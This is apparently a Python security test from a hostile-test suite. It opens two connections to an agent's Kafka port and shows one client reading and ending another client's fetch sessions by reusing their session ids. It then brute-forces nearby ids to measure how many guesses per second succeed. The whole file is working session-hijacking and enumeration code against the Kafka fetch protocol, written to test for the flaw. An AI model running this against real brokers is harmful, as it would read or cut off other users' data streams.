"""An attacker names the fetch sessions of another connection: it continues them, reads them, and ends them.

The attacker gets the ids, which is more than it can guess; then it tries other ids, as fast as it can, to find more.
"""

from __future__ import annotations

import asyncio
import struct
import time

from tests.hostile.attacked_agent import AttackedAgent
from tests.hostile.frames import FETCH, request, text

_VERSION = 7
_SESSIONS, _GUESSES = 200, 20_000
_NOT_FOUND = 70
_FULL, _LAST = 0, -1


def fetch(session_id: int, epoch: int, topic: str | None = None) -> bytes:
    """A request for one partition of the topic, or with the changes of a session: none."""
    body = struct.pack(">iiiibii", -1, 0, 0, 1 << 20, 0, session_id, epoch)
    named = b"" if topic is None else text(topic) + struct.pack(">iiqqi", 1, 0, 0, -1, 1 << 20)
    return request(FETCH, _VERSION, body + struct.pack(">i", topic is not None) + named + struct.pack(">i", 0))


class Connection:
    """One client: requests go out together, answers are (error code, session id, length)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer

    @classmethod
    async def open(cls, target: AttackedAgent) -> Connection:
        """Open a connection to the agent's Kafka port."""
        return cls(*await asyncio.open_connection(*target.kafka, limit=1 << 22))

    async def ask(self, frames: list[bytes]) -> list[tuple[int, int, int]]:
        """The answers, in order."""
        self._writer.write(b"".join(frames))
        found = []
        for _ in frames:
            (size,) = struct.unpack(">i", await self._reader.readexactly(4))
            answer = await self._reader.readexactly(size)
            found.append((*struct.unpack_from(">hi", answer, 8), size))
        return found

    def close(self) -> None:
        """End it."""
        self._writer.close()


async def attack(target: AttackedAgent) -> str:
    """Return how many sessions the attacker read and ended, and how many ids it can try in a second."""
    victim, attacker = await Connection.open(target), await Connection.open(target)
    ids = [found[1] for found in await victim.ask([fetch(0, 0, f"secret-{n}") for n in range(_SESSIONS)])]
    assert all(ids), "no session was given"
    read = sum(not code for code, _, _ in await attacker.ask([fetch(number, 1) for number in ids[: _SESSIONS // 2]]))
    await attacker.ask([fetch(number, _LAST) for number in ids[_SESSIONS // 2 :]])
    kept = sum(not code for code, _, _ in await victim.ask([fetch(number, 1) for number in ids]))
    began, told = time.monotonic(), 0
    for first in range(1, _GUESSES, 100):
        answers = await attacker.ask([fetch((ids[0] >> 20 << 20) + first + n, 5_000_000) for n in range(100)])
        told += sum(code != _NOT_FOUND for code, _, _ in answers)
    rate = _GUESSES / (time.monotonic() - began)
    victim.close()
    attacker.close()
    return (
        f"of {_SESSIONS} sessions an attacker read {read}, and {_SESSIONS - kept} were lost to their owner;"
        f" {rate:.0f} guesses per second found {told}"
    )
